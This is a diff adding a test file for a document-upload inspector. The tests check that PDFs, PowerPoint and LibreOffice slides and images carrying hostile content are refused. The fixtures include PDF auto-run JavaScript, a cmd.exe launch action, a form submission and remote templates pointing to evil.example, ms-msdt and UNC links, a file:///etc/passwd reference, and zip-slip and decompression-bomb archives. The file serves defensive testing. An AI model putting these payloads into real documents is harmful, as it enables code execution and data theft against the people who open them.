@@ -1,0 +1,233 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import path from 'node:path'
+import { deflateSync } from 'node:zlib'
+import { strToU8 } from 'fflate'
+import { afterAll, describe, expect, it } from 'vitest'
+import type { FileProblem, FileType } from '@/domain/file/material-file'
+import { typesetPdf } from '@/server/typst'
+import {
+  contentTypes,
+  objectStream,
+  odfContent,
+  odpParts,
+  pdfWith,
+  picture,
+  pptxParts,
+  relations,
+  xlsxParts,
+  zipOf,
+} from '@/tests/support/hostile-files'
+import { inspectFile } from './inspect-file'
+
+const folder = mkdtempSync(path.join(tmpdir(), 'inspect-'))
+afterAll(() => rmSync(folder, { recursive: true }))
+let count = 0
+
+async function inspect(bytes: Uint8Array | string) {
+  const file = path.join(folder, String(count++))
+  writeFileSync(file, bytes)
+  const found = await inspectFile(file)
+  return found.status === 'fine' ? found.type : found.problem
+}
+const isRefused = async (bytes: Uint8Array | string, problem: FileProblem) => expect(await inspect(bytes)).toBe(problem)
+const isFine = async (bytes: Uint8Array, type: FileType) => expect(await inspect(bytes)).toBe(type)
+
+describe('the type of a file follows from its bytes', () => {
+  it('whatever its name is', async () => {
+    await isFine(pdfWith(), 'pdf')
+    await isFine(zipOf(pptxParts()), 'pptx')
+    await isFine(zipOf(odpParts()), 'odp')
+    await isFine(await picture('png'), 'png')
+    await isFine(await picture('jpeg'), 'jpg')
+    await isFine(await picture('webp'), 'webp')
+  })
+
+  it.each([
+    ['nothing', '', 'empty'],
+    ['an SVG', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'type'],
+    ['a page', '<!doctype html><script>alert(1)</script>', 'type'],
+    ['a program', 'MZ\x90\0', 'type'],
+    ['a PDF behind a page', '<html>%PDF-1.7 startxref 0 %%EOF', 'type'],
+    ['an old presentation', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'type'],
+    ['text', 'نص', 'type'],
+  ] as const)('%s is none of them', (_, bytes, problem) => isRefused(bytes, problem))
+
+  it('a workbook, a text, any archive and other kinds of presentation are none of them', async () => {
+    await isRefused(zipOf(xlsxParts()), 'type')
+    await isRefused(zipOf({ 'a.txt': 'a' }), 'type')
+    await isRefused(zipOf({ ...odpParts(), mimetype: 'application/vnd.oasis.opendocument.text' }), 'type')
+    const show = 'application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml'
+    await isRefused(zipOf({ ...pptxParts(), '[Content_Types].xml': contentTypes(show) }), 'type')
+  })
+})
+
+describe('a PDF', () => {
+  it('that Typst has set is fine', async () => {
+    const logo = await picture('png')
+    const files = { 'certificate/logo-0.png': logo }
+    const pdf = typesetPdf({ template: 'certificate/logo.typ', inputs: { logo: 'logo-0.png' }, files })
+    await isFine(pdf, 'pdf')
+  })
+
+  it('may have links, an outline and compressed objects', async () => {
+    await isFine(pdfWith('/OpenAction [3 0 R /Fit]', ['<< /S /URI /URI (https://example.ma) >>']), 'pdf')
+    await isFine(pdfWith('', [objectStream('<< /Type /Outlines >>')]), 'pdf')
+  })
+
+  it.each([
+    ['a script', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>', 'active'],
+    ['a script with escapes', '/OpenAction << /S /J#61va#53cript /JS (x) >>', 'active'],
+    ['a program that it starts', '/OpenAction << /S /Launch /F (cmd.exe) >>', 'active'],
+    ['a form that it sends', '/OpenAction << /S /SubmitForm /F (https://evil.example) >>', 'active'],
+    ['a form of its own kind', '/AcroForm << /XFA 9 0 R >>', 'active'],
+    ['another file', '/Names << /EmbeddedFiles 9 0 R >>', 'embedded'],
+  ] as const)('with %s is refused', (_, catalog, problem) => isRefused(pdfWith(catalog), problem))
+
+  const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
+  it('with a script in compressed objects is refused, however they are compressed', async () => {
+    await isRefused(pdfWith('', [objectStream(script)]), 'active')
+    await isRefused(pdfWith('', [objectStream(script, '/Filter [ /FlateDecode ]')]), 'active')
+    await isRefused(pdfWith('', [objectStream(script, '', Buffer.from(`10 0 ${script}`))]), 'active')
+    // A dictionary that calls itself a picture.
+    const lying = {
+      dictionary: '/Type /XObject /Subtype /Image /Filter /FlateDecode',
+      data: deflateSync(`10 0 ${script}`),
+    }
+    await isRefused(pdfWith('', [lying]), 'active')
+    await isRefused(
+      pdfWith('', [objectStream(script, undefined, deflateSync(`% ${'x'.repeat(9000)}\n10 0 ${script}`))]),
+      'active',
+    )
+  })
+
+  it('whose compressed objects cannot be read is refused', async () => {
+    const hex = Buffer.from(`${Buffer.from(script).toString('hex')}>`)
+    await isRefused(pdfWith('', [objectStream(script, '/Filter /ASCIIHexDecode', hex)]), 'encrypted')
+    await isRefused(pdfWith('', [objectStream(script, '/Filter [/ASCIIHexDecode /FlateDecode]', hex)]), 'encrypted')
+    await isRefused(pdfWith('', [objectStream(script, '/Filter 9 0 R', hex)]), 'encrypted')
+    await isRefused(
+      pdfWith('', [objectStream(script, '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>')]),
+      'encrypted',
+    )
+    await isRefused(pdfWith('', [], '/Encrypt 9 0 R'), 'encrypted')
+  })
+
+  it('that is cut off is broken, and one that unpacks without end is refused', async () => {
+    await isRefused(pdfWith().subarray(0, 400), 'broken')
+    const zeros = deflateSync(Buffer.alloc(210 * 1024 * 1024, '1 '))
+    await isRefused(pdfWith('', [{ dictionary: '/Filter /FlateDecode', data: zeros }]), 'unpacked')
+  })
+})
+
+describe('slides of PowerPoint', () => {
+  const withPart = (name: string, content: string | Uint8Array) => zipOf({ ...pptxParts(), [name]: content })
+  const linked = (type: string, target: string) =>
+    withPart('ppt/slides/_rels/slide1.xml.rels', relations([{ type, target, external: true }]))
+  const OLE = Uint8Array.from(Buffer.from('d0cf11e0a1b11ae1', 'hex'))
+
+  it('with macros are refused, whatever the file is called', async () => {
+    await isRefused(withPart('ppt/vbaProject.bin', OLE), 'macros')
+    const type = 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml'
+    await isRefused(withPart('[Content_Types].xml', contentTypes(type)), 'macros')
+    await isRefused(withPart('ppt/activeX/activeX1.xml', '<a/>'), 'macros')
+    const macros = withPart('ppt/embeddings/a.xlsx', zipOf({ ...xlsxParts(), 'xl/vbaProject.bin': OLE }))
+    await isRefused(macros, 'macros')
+  })
+
+  it('with a file in them that could be started are refused', async () => {
+    await isRefused(withPart('ppt/embeddings/oleObject1.bin', OLE), 'embedded')
+    await isRefused(withPart('ppt/media/image2.png', 'MZ\x90\0'), 'embedded')
+    await isRefused(withPart('ppt/media/run.vbs', 'x'), 'embedded')
+    await isRefused(withPart('ppt/media/a.bin', zipOf({ 'a.exe': 'MZ' })), 'embedded')
+    const nested = zipOf({ ...xlsxParts(), 'xl/embeddings/b.xlsx': zipOf(xlsxParts()) })
+    await isRefused(withPart('ppt/embeddings/a.xlsx', nested), 'embedded')
+  })
+
+  it('that load something from elsewhere are refused; links to click are not', async () => {
+    await isRefused(linked('image', 'https://evil.example/pixel.png'), 'external')
+    await isRefused(linked('attachedTemplate', 'https://evil.example/t.potm'), 'external')
+    await isRefused(linked('oleObject', 'file:///C:/book.xlsx'), 'external')
+    await isRefused(linked('hyperlink', 'file://server/share/run.exe'), 'external')
+    await isRefused(linked('hyperlink', 'ms-msdt:/id PCWDiagnostic'), 'external')
+    await isRefused(linked('hyperlink', '\\\\server\\share'), 'external')
+    await isFine(linked('hyperlink', 'mailto:aide@example.ma'), 'pptx')
+  })
+
+  it('that are no honest archive are refused', async () => {
+    await isRefused(withPart('../ppt/x.xml', '<a/>'), 'broken')
+    await isRefused(withPart('ppt/x.xml', '<!DOCTYPE a [<!ENTITY b "b">]><a/>'), 'broken')
+    await isRefused(withPart('ppt/x.xml', Buffer.from('\ufeff<a/>', 'utf16le')), 'broken')
+    await isRefused(withPart('ppt/x.xml', '<?xml version="1.0" encoding="utf-7"?><a/>'), 'broken')
+    await isRefused(withPart('PPT/presentation.xml', '<a/>'), 'broken')
+    await isRefused(zipOf(pptxParts()).subarray(0, 300), 'broken')
+    const encrypted = Buffer.from(zipOf(pptxParts()))
+    encrypted[encrypted.indexOf('PK\x01\x02') + 8] = 1
+    await isRefused(encrypted, 'encrypted')
+  })
+
+  it('that unpack to far more than they are, or have thousands of parts, are refused', async () => {
+    await isRefused(withPart('ppt/media/a.emf', new Uint8Array(260 * 1024 * 1024)), 'unpacked')
+    await isRefused(withPart('ppt/x.xml', `<a>${' '.repeat(13 * 1024 * 1024)}</a>`), 'unpacked')
+    const many = Object.fromEntries(Array.from({ length: 5001 }, (_, index) => [`ppt/media/${index}.png`, 'x']))
+    await isRefused(zipOf({ ...pptxParts(), ...many }), 'unpacked')
+    // One that says less than it holds: its true size is found while it is unpacked.
+    const lying = Buffer.from(withPart('ppt/media/a.emf', new Uint8Array(1_000_000)))
+    const entry = lying.lastIndexOf('PK\x01\x02', lying.lastIndexOf('ppt/media/a.emf'))
+    lying.writeUInt32LE(10, entry + 24)
+    await isRefused(lying, 'broken')
+  })
+})
+
+describe('slides of LibreOffice', () => {
+  const withBody = (body: string, spaces?: string) => zipOf({ ...odpParts(), 'content.xml': odfContent(body, spaces) })
+
+  it('with macros are refused', async () => {
+    await isRefused(zipOf({ ...odpParts(), 'Basic/Standard/Module1.xml': '<a/>' }), 'macros')
+    await isRefused(zipOf({ ...odpParts(), 'Scripts/python/a.xml': '<a/>' }), 'macros')
+    const listener = 'script:event-listener script:language="ooo:script"'
+    await isRefused(withBody(`<${listener} xlink:href="vnd.sun.star.script:x"/>`), 'macros')
+    await isRefused(withBody('<![CDATA[<!--]]><script:event-listener/><![CDATA[-->]]>'), 'macros')
+    await isRefused(withBody('<text:a xlink:href="vnd.sun.star.scrip&#116;:x"/>'), 'macros')
+    await isRefused(
+      withBody('<presentation:event-listener presentation:action="execute" xlink:href="cmd.exe"/>'),
+      'active',
+    )
+  })
+
+  it('that name their vocabularies in an unusual way could hide something', async () => {
+    const spaces =
+      'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:s="urn:oasis:names:tc:opendocument:xmlns:scrip&#116;:1.0"'
+    await isRefused(withBody('<s:event-listener/>', spaces), 'broken')
+  })
+
+  it('that load something from elsewhere, or hold a file, are refused', async () => {
+    await isRefused(withBody('<draw:image xlink:href="https://evil.example/a.png"/>'), 'external')
+    await isRefused(withBody('<draw:image xlink:href="&#102;ile:///etc/passwd"/>'), 'external')
+    await isRefused(withBody('<draw:object xlink:href="../../other.odp"/>'), 'external')
+    await isRefused(withBody('<text:a xlink:href="file:///run.exe"/>'), 'external')
+    await isRefused(withBody('<text:a xml:base="https://evil.example/" xlink:href="a"/>'), 'external')
+    await isRefused(withBody('<draw:object-ole xlink:href="./Object 1"/>'), 'embedded')
+    await isRefused(withBody('<draw:plugin draw:mime-type="application/x-foo" xlink:href="a"/>'), 'embedded')
+    await isRefused(zipOf({ ...odpParts(), 'Object 1': strToU8('MZ\x90\0', true) }), 'embedded')
+    await isFine(
+      withBody('<draw:plugin draw:mime-type="application/vnd.sun.star.media" xlink:href="Media/a.mp4"/>'),
+      'odp',
+    )
+  })
+
+  it('that need a password are refused', async () => {
+    const manifest =
+      '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:encryption-data/></manifest:manifest>'
+    await isRefused(zipOf({ ...odpParts(), 'META-INF/manifest.xml': manifest }), 'encrypted')
+  })
+})
+
+describe('a picture', () => {
+  it('of too many pixels is refused by its header', async () => isRefused(await picture('png', 8000, 7000), 'pixels'))
+  it('whose bytes are something else is refused', async () => {
+    await isRefused(Buffer.from('\x89PNG\r\n\x1a\n<script>', 'latin1'), 'broken')
+    await isRefused(Buffer.from('\xff\xd8\xff<script>', 'latin1'), 'broken')
+    await isRefused(Buffer.from('RIFF\0\0\0\0WEBP<script>', 'latin1'), 'broken')
+  })
+})
